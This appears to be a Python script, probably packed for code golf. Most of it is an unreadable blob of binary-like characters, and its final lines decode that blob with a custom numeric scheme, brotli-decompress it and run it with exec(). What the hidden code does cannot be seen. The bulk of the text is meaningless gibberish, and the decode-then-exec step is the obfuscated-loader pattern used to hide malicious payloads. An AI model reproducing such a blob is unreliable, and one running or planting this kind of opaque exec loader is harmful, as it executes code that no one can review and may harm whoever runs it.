<߅<ͱ0z&n{o؊y8o @e1TxZ!ע:KSA;CհKEƫ,Ⱥ^ıM kf`ߍDӹáf58ň=x3s5I܉RTX2uQ<2q5ʍ]IIa-Y+pW4Y@݇Iy6YMYM(\gRcF(${7C'+Ն~oqɘ	1֚͏yAsX'n&[Or,_ETn+o͈d_.ێGŲŮ$vXp>٥)I?:KIgxسܻI%X~ڏÎƽbDTIҏ*e?8)ӚO7}}*dWFޚsr%}u7L VZ54SbӐxޘ,PbmQׁٖMbTt(32&oTkRٚMl؄]a0>Ck|uI۩4ǉZON,α3ɏ3p
6;0t4ZMS'd+mXK[qw*HKƏQ|שa&h4-!
3&+^"ܻn%û?]rrsqHIHoɡ}$%-ͪIRugڑy+תZ͸ ZL4q7'+0`՛2fowےZ'TSu$R<ڥJl/xô2	s2ҋ]1Ol	߯1[Z/8ztH8kT)x'/Qicؖv$AmٻϔO)y-Q*IǴUM+fpbBIS7߬(VDUW8Д~kJi&~G~]s8J3pL<]nf	Gt {v%(gE>]_oR/rI"'CIkNmiP/V7 NKG_QhtC=4z,!8]{]k	{t0¯dZ"og)Mf$Ͽ>B^z?zC̾Ȗ4rË̓'{ãGӃ4Η/C$>ױwuϹC|X#fƲf@fAdG{DYVϣ=;;|vIڸuز;H`/CeX@aQCg3kaAhͬ#4aq&Uե%hxxŋ**{5͈|ӥ>ʅ=)VQ/#M)$)Qq XY0>hޖznҌVŖWwHڴ*_ܢ#@9wm4jC8C\ڠ\T׃aߡIUE4wс~Hdu2aغ1@ȽoY<AN^N+@)~?Ȕj]}TF`s'D8ܴmyM*i=r(M?#SFJu'idB{"p4QQ6Kl"pi%"+PIB*e[v9A;H3ĚE`yN%')_z;_1GS/M]\$
)]iʞ՜(̌ۿI1E;1Q-,zU#+/% cc&$,.=:vޒ{ۙ#U},kJ,oOSBykYʢDr3X}=ů6͛m}D 6',gPX]J'1'C1i5umH׊L޳:HeWRćj{@LS4{;8xҮWwCУKPrҍV_َUQY0̝/<HIq8Q%EEiaؔk'-! |y)`[ӏ<iqJ)XMB!",ѓ8ٰ+9V$vN$qÃп!* #3ˍBuǤ0߮.A)GO'nv!ƺI,0_8va~G|Ԋ
&R,9¦[oP (H'=DИH,Lq5J8Qefɓ"4]*kuBѦD)~Yքذ\S61[3S!}Pkʥ;(i^Xkui,k.̡my;!{go5-mAGHˇ\ۛ:kǄU>ʻQ+F#&mT[4`TS>nmǈ:(Z#Q([n6^r/֓/nL1]hYVXs	;9
eT>\rD}p`	u_Ҷ)_uZQ+C"ܰmV>ߎR#˷fJ&*luPxeM/Fi#xO	l>~{Nm>@.i@k*ΘV{ՄxѺ
Px,K!~Ўvx(M6_OJpҀ8B6PcNA15i+L^kenА_52~Ny	{pNs[:w'vbȟťWu6L	1>-v\x]Ġk<{tE+Z[$̩Y2{ʾ;:ǜ̟F߅ʚ"/D#"^q=iQu߬wɏp@O9TN'ԍj/F{J;Ц;?5W=k̃$+$Oþ˚_՝pT]:e,˾X;jU3׌%`r:́Kl08V.w%m~ȎLPUiGa>CP\jyu$иwσW0` :I"tSP4Wdуj:+j`"O/e	saf*OP'/RʜlsՏvY#ĈL,/{$/FR/XĹ(@J݇Z#ӗ{TOK^RSEό#CT{b|z@!%Id@R},fSU1_%Qcț'I*h)tvXXs.ߡ18k'Y|hɛ8s?+l&=bc16d(6L ^g0;+f$ڳ`D-N]Pv\`,E%wܶV!h1rǩF%ձɁb9
g Ȝ/6
-LvF[%˱k#l$QgX5X{77P|
*YqX,f
8K=R`ۚ9Ԕʵ(~F<
mGАa&;d4/G]7JjةPt݂7ͣē9jgׄhbĸ1x̓ܙEyҭFJxRoYHz)H!zƸ=k&&`"R*,nT9\8WMזs: 9L>kOֿߚ_B7ahޕ(ׯchr7xǌDC[]MRvşAz~4k.ֽԱ='YtЍIrNȰ&5Ruջݶ?RKD]ca>#(2eUY9Gw=mQn+;`@,;=kk-zT`wy#H~ƈ`} ݛiŇ3K$UcŉիGoեuEL` /)A(Д<prWX>ړ:;Ԥl8Ni
GJǮF60dLKv}bpڔ
ne&IVAB%È%S-,tAGۣeEf@X!BDWbD,.dGZ։#.m͂z٫ȁГJl&[G9l%ɿQ.B]4$hW_ި3H8HhQ!ν)2L^ʡƐ3&#KD0&j\DH{tqWfLUT2kN7>پmD};6|K~pɃΨH)D(JL8}ͼSƜq*UBNd3Qǌr0r'*.Ր=B%VݡSE:%ݗ_!p39ekaUcta{6"R߲1b\Šv%{چcWG\WY*I/jTZGPFX4ǅʍdM3
Ȗ4{3ή)|5q/plA2Z7nwf/"
|5֣תvtDȎ<ΫoÅ38^r,l -)Lo˽ٷK54ȐB_\lCsx;0=\>ER"\׿ADgq=F1sgf6.D=Zٲ{1݊7;E|ocĺ u[5C4.n~8>lnؔuE2P]m@;ܧwB )\aVjz|+'5xѣvWqhXWO)!^.ޥԷuՂە}uqKI'Ewsѩ00ǵqƞdqED,P<ŋ|7ةViq]UfΘkϽT)?؈s?kuW~gz(Ω _"x=oЙZb}zR!]UaO_K]Yfo9	 $16?+ݜ{PKNZ~ Z%gKœrRVxz֮0BXԀRR^DGB}̛cǻ$2عHOiN4mt:%`S+O!9V;҇:Am-2-̚0|gf|gD:u]UψFj-IdCI/T|å:\-}>EKW;ɣ#$_gfEŌ_gP1Q[|5T_"62b;aΧD@lg4mX^T<^Ւ5ۛedGR?c!trOQUCF%$y5
JԤUC+
J`bA#9O@9`ORab:pfuk6F(mdIޫe}YBdwF=r{̩@LOTڮS'$5~2oDŦuWQ_2N[)'P@	žAL/=ޭYP!y@۬WZ7aAnf$*dy
B'*UVBg5!D4Iۨ܂R,HU]BE].)ޑPd¤^1_>#oQٮi^5IщXUwܜZP1)f5e	DTEADNS*3HTU2peYYE.~jР0tjKǖZXAVl$V^?eaa=hZ"uڽ+B;ErƗnȓR;Tebv^Bjg\<$OU%XF3b\tb!W_ɚ/Fw%ej}a>QWeb֯lCYY٫ir^2YȉVO\ucoȟy¿,P˚+(~kGuZl:0Co
	Jpgx7ZBmAB6I35%ўCǹќ_"
I59Q~I~$npִ~P1ќ-y}۠?hWξvlֶXt^ɍ}B^1޺ _Ć 05\6,JBS=SgHgMz.-[(rHe$dҤ{`&΢12܏߿61#]?}Mxr*v3K[ܵLnɛZ77|[<<#iN[JgUt3inr~:qTϪLP{8\jˁWj"uCH/ZEX}fǄӋX&$%S֮/3ӚOv,~EwU9BaÂ<xlˬ>v"Ad+P2cR}V.Ʃʢb,)JիjG7|l.i91ɪ2-9xw)m4oʯaBKO;l{^og+ [ֶ8R:σ$ȗ},us-k6+3Dŝ!8ʨٴqM҅L0Wǂd1z;*IU1'jPܡ|<~7U|VkœBקB
ޒ;<$CI-V'B)0~d1j4Hb,ʈ&hEZ:<J^sԏסJ=3wyM~;5.9_s"3&'gE!Jhu%fg){0Ncǽi$H/rC]G4n0`+)(,)\~rsB]cxsh<Rlt1g-".&6޺lDߗNCǭɬ!юcDٙ9*ެV˓BڸOj;IMbD=CˁtoǏ؍Leg
K@Lѯ|vEZ ̂?ɒV}9bnUk}tm)z})5å`2o}Ъ*UP!
y#?)jlSID@fϜnmq|m<~kQ4MEz*"_A'jc3Axb=,Ņ1rJxahVk]s4p޺:0{cُWURk0µ}Q&_d41Lػ%#,Yp:Xr]Iul̲o]Q\՚\	9l}0ْ_j>LcZf5aS6LС^=ONB_.DOѵjnqKi"˸fup5]W5Re42+\fu|]m۞\5,JpƸj	?|E\k0_ϒy\؞OOb0Cusx F=Xl<.]k+~Z;wz=`0
AԜg3B(Ki!ld7BA
j]tQlm~\ɷ6oHz"!D$|\/&Q@4_<6g
ms1ɎV_@O~;rLw8?>(|#/á!x>](*0am,mR&lHFQdLsAtt)݈(ըJNPD&!DAӍ|1LZOkӢՑ9sSs 'H!.1!rLZeBƂ^6˃/)ds25	g*ezoNu[aƫvI>P҈,!%s%(|yȣ9ʾJJSnlZO;c12d\Tds1bJUOLrbX&>}Hׯɔyo>hCT4hљ'E݇AArlCc>c۩r*%+ٜÂGbry݄tW/ Ci~yTa;ܻV*?iE޹_a($+IT/?#-%Gig&3drMx®K<)ȋ^tvNEH	Vd<zj27:-_HB62GL,4)c);iN(d3xmϯ)x̨&yd}%:4Ω3D}sp2~ӝo;s=Ntƕ'ϚLo!2'A0EEF<Aoߩgۏn&?9lUK4@4sGy2c%̻1z]:~)XeG$=r|h¢A6'DQER]ŝ>eȨ֤5L)S0<I<Sn`8RشvM,<'Y5	FѓtyA[ųIm<@1wmV0Qk5G8҃"Wzә 4nsWN0&Z¨"/H~SGj(X6z{
-U:-t[56ǻfI;,щO.3<Un{|H^&@Fex[/.k&=['eUՆs
ԣ,ΗGk$j1ά~
p.ѥܣp"Z{"4VGD~eR2\Kߺ+>>Un}so|m.%lGSR=uBmU5`uPpPiҹR:%Λ<}OIE/ۭ̳&`݂;q9qcNR4͉8Xgġuvx܏Ǻc'C&T_4 ňi1~2'"+Dne©_r/JVezQ*z=Z%H٘+uqTĜŅ*m8d2ہzC$gm_Rk{sT=5t}|6p\[А3ȕ  !Ψݺ+un"}<1rƦ7"$jr&ˉ&"Tr}=5zcI(Ӈ\+rUHt
rEh`Bx'NՎ:4NsXm1U6fbcҧ.ؕ)zPwiZO".b)uޡ5߈6K5ڜ1;>TQȪz 1"rѮ+ޅx`UsB81pʦU@	E{,^C|j͸:F
tɵ"~,3ؙ_5ђڹyB R~`һ_Tp=\-E^`wJ8ْpфɳZ2[?WGڷ~xMt5NЏ)'#
j5%$j8}ǍU (D|JMId'P]~L'p)ÃEIR=,]`\\DyW	ETS;kKJwocQQ SpLyxteS5 %.O~zRJ,?i1aȼ1pYIt`>Srm("=hA\cQ6m.NZO͛¶*>gEGovbd<w#k=ۈKKNt!3abLf"yGUCȥnxJT$L2_h,
H2fTRz_K8څy;]ӑlڴ%"$Hk\GdL\'fP۝k8A:«8qU3$^:ˋܢsؾSs).MEid{R؉<޼*c[)-GN0l(*SبocEºTqD;s.2?ϧ.۬N8LyKnl-,hM/׆!v_5c6$9:)L2"}vSvB$**p+%ASڨ}
@02`rQ݀@^946E ݽɧس&"_'N=WnًK."~qi՞aDE@:7%z9ȑ6uZJ&_pe	ǣuJ!{RiޙyIggYlts>F~wY/9?U~_rPV`/Φ0zWbrqՄ+?yT6$e͊_\vLWsWRlBѢhNjknZɢՉvM!	ސ\l| uf"xZbD. ёB1ϯ	Lh
A:./k}}FVmܮ@ MaZuYBD8(::	7ʁڔ^` wۘ:So+b91b]<^eI+4^3UBҦUT$o&RqD۸S$ms{Oi! }9)s#;$р̊~4j%_T*
IU&bQ7yXI!>
QEŁԺ6 4Xu	IXjv}و߯.ʆCrhaGfε<_@՛F7͠w\P_dvͪjrطO4~^Fh6;*548/J>(I.3·ͤ0sePjrxV˒H(p"COPe4ȢȽI3D|*y6I0Ot&o}znNMfA"`@!5$t3mJhdPENEՉ|BEV#r<p\+)SF3W//O̔?,p\{RA4ODIӄOl/,L,wS^8Qr9k_);&SB7/ZEhHF$<hh](
!41$=A<Xm ,dmsQ<rť0c`Rņ6&w$Hgf./+{җ$7~]4x7
ٟ~NLxuZ `{h'{h~|?f04`˨_2Fmi۞ST8 ULTٛwnwQpwюX+	Ѝŝ18}`ֆ{4i1˿MP_Ɛd"@!ޣ%Nn'k833{twNP
Z8_+w0ZMEe&
)/5BƯUu˶sUI9!@XN>Nq,5nvʗx[4#ݶ̀OGzA0`q1WLxCrbQ̅o	b/T) *Lm@ے#̬W$e\_AșBTOi
q)$:~яiΤylI%Ύ
vNuu^RsFUۑ0V8\9"dOK{eq^ʹg8NtVPxKkn`6e]8S=?ǛϕvǙȱ*\\UIw>\-SJl|2p.ѥǗ԰W!U@?3"u
3Ј~E%po,-0١i|pG[ZhA8ffG+W~aw[۱\,$	~DZa&ه$i3nnsQ^{y2`{£'ʹ.\5Pf#ƓftQBfw"Ŏ$kݭ(Ŷs	<u]ʌ>ހ5|Qx '.:=[mz@0ZɈ3xǿQDh~\`j5`wM}diȟ<iCdoq+(oV{1'
eSn-(\AAV<ݰ4Fʯ3{pÝ]ƄɆ7{|[	sݞ!FJ#gtY/^O`կMP[Tgj<vҺW!	ˡW8%|Ӓa{T[̲Mk(VNlx ċO17<`hb9;L-ٹq]c!n\Ľz5c%SiJ8};&oOH@IucXܜ+Ok6qس4J=-gkCRl3IyHfafN ~dھҁk-as4bP?<mzڤ+QGvpoHT۝PA6fԇ9C^ɐ%3toHNNj#їP]a<˯7ʻU!gGKuDePb0vusCb^NNr>eV$ƾŗtБlSʖN#v^vr0%M)<COp;>ܓVIu6xS["wXFmEKCAkhX2Bp#mʿQVKSHOaHdsKt 
͔8qw_ /N>-*~jc0wxZ~Gt|{{):kNCs`r110I~4۲h[ÎXtP-ƎUд<-zUGN<j˅ԃ[|9ẃuoY-
]+'5p*Hi{~BfWZso~>]؏?Z{cT:s9#Ӷjq&̾C;*̈O<'y6TpדWX-I:C*
ѲMߔzk>LǼ24/?^n?T>%gJ#vۅCys^#֢pŨ FLaƳ:"Ym`t
6eJ{Of-js$mpvV-]uߜkAUy;W߰%6$7q&iiʹI5jگy,PPvx:u5F>1gwAzr{WƴDVt	6ǡ~\&!)ΟTTǧY7N=H{tpwɡ&mϣ=U*#t;'dq~8$@Mſ8A+bn@}:Nil?*̹9#Ao4HdVU+@YJئVHGXzq	-Y0/Q0QϯLcu%Yc^:(/(4οz'LEgz\<t	1ؿ.IFǘuYh&<d<od)WfcZKwG-):whʼ]tm\W׺c'4Nod$>)H!;Hճ~ŃE2whΊ9Jg(wʜ%1Ŕa|K\u}ei$|ݴ-RdZq/(cy
(bfXǸUU,Y`p߃)1Ӕwֵ+ZH8Юnkz]ؙId0ߺ	t`tɊER8/Eɯ(tUWv-^x`(<Ʊo c{{)aܖWVi!':&45ɳtbܰ&BCOCJLP۟CR`"+zTURg.<$JHk۰|֐re
Djma5lTʐ'Z8&hUyPoBPbW>	L$cl3SHTԍJVR6uѝ7n+O438aX{f7Tl+@ͦ^;^M`sMR6$q{SZ*+IckMI8mž2¡M\<Lb\qUܟ̬AMp̴oߍ^|3fl?umbRfV"f#7&A(rǃl?I;tǒ H?ӏW,߭AїR7ˡ[
Ot0AѪ/YoR2/8|?OTq<ӜtA:۸twp;T'CRӀ'KWv~$`r9|md`]ޘ88FZfˊ6S9%==h"1װk(v*KRiM`y܏KH<ickR׊	ژUZӻt|t?^wW0!INׄXȄU[I1̈́LİX^?HUn#%<x{y#(oCkة|I*ZJǣ%M܂u:c;B@b	*Ue-3gۦ`QI?L7TtE{dn,|uSAjh.C[gt<E7Kl,\&\Ш۲ٔ.	d{Yt'x1uK#7P7LPVB!KV}	HHjawp1f^efc3ϜζTMl
&|}MϟWzuS=`3bXGZP~5f)/_\._7M\(;\~E`ƸŘ[]=IX<j8|IϵuݖJ4.*do޿Ն' Z]7ï*fr	=a]vzw-xt:	g;a:Bbq^OzK֙W{qyq (κz(lD5BDda4{fD``&ހ&]Zbn7 nc{(B®"QEH}vM,)#C%	0¹_XjfQM:+e+pLdH@ר&=k5bdjL(tfhtsq]I$?d;Ծ}YpWU|Rjnc|8:ɀ9Ұ\l#."<ǫWRǙE Fp_-g7\;G'q[0
i{ٯbli$ È]۞T%j"ݤ=Ƙ[ '[S:pfl>2zlqIDxĸ5ҙsqie,еm4S-+jTgnҨq";.0jBxǧR=ԫޕO1l!Y/eqL-UA=*NѤ<M6D.NfU^^,{;јnŖSOoq=Ҝa;PQpyyO\QL1ЉPGsi42Ȏ]tD	Jij26b']	}ǥmJLlύW;4R'lieݣyki߄Vcup/aϰ4zmj7gz#4\׊g3'ei0
E`%)=&M/zp
ٖl{?
s]Is(=.8T,|szJL%5Ӈ$dq>ClCf]l}/(cK*brF0Eċ0njmf~&\d_	x4Iql|WTĊL@0ԢG??V`#t,i?{rGFV<b&k~#ŀgnFߛ;5٢rЊƨժR͢o'-im*Ztj1Q\Л.mG-p]ƿ#[ݏJ"/[VnB+,H_*R)if*%Hcs>,@K%KTя=ّ"+3H
;XeJիPĿl-{l[x0znu"E5/T(O{ND<guЮS 3oJFĩ71K1R֌ɶO|'*1A*@1UV$c&SPfbWmϠeݙq̾|݉qǎo]BDwe<=]Si_pp&͢eЅ'\uSuwN.vG4D,ۊ&ƫntpp[p-:M"W{h 
7@	ipx*"Jw͈3xrn'Pr͋dl7гY:$%QxTJoLRGhZOdtIZmB]5YHįu"Uk--E\k&2s=LRܟ71Dn׵t>[ttS<KbH7"YWȨ~Lp*S%͒!Iu.^n$fMJs0pԥ'&>p7	0V
eNxZb:Ϲ%ƶEp́¥i]j%γ?	U*GCuw^sJ8gj$ډ[D_ʎv4c|ۿZ&x9ia?&$T!YMGrMjqHO?PRP"k@aM|,X5$-LQ"ɀ69ٓfm$&Ƴ߯gR%F>7HAh(4$/yma3D@Ҥt̹l3ϲDO<ДEKPjE~c9]VD5]:j̶|'>8C+)Zx\z^4֮9! }=&#QnσS΅LyP¯uOx{0ęq}ˢY>/l23PSUXLUP4
UzmFυņ% d}M
?¼mλFp4YEP.|[9z$Wze:,OjDB_F5νHy؝uسx͈.q."-АV_wx Ku~.;SS`
Y Gǵ/tȔD&"|ˬ}ۊq3XPbpET0+w6gȿ0mv)XSL|F3YظŁ:t9BΣ6!DfVU~˲N#RBٵBrȽ[j|ͻdtDN{QyϓBW%fπ@>}V
guYt4kP7!nmz2Gߗ-W0mݮ<=/#ܴDk=2P^sd)*"rƨ0OVI|tͧF8Тe@)CʶDTBHAeݖ `]9gB 1{Ba9$^ݫڊϤ	߆53L1arE6g%CCz
wV\\ k׮­Cd١B9y:d '݉0٬{.n)>~CȻ?K62N`$֥,<2*,:aF3UpGЗ^9̋C9Z$yn>
}O$*chҤmyɾ2=Y=D6Y -9oX^;R$A7KK,M_d{A,D/XBݣ	4}2Βzaqr3,z lH8X}A[ SDߐĴߥ	qP!>ɟnfdIO2D<!?E]vB}ck2o;Ht![۴EKmRu ո0fFCmw۰Jx̙aP>d+͑dm^Sȸav,STw
oڰ=B9rxM;!|/HeXx\ڢWgĩAȄ-ZtT;6z;pJ}My\`/DZYȨx<ԹiƐ.K44!&ľ(Xܬ9UܩN>olѳMz''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(25485)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
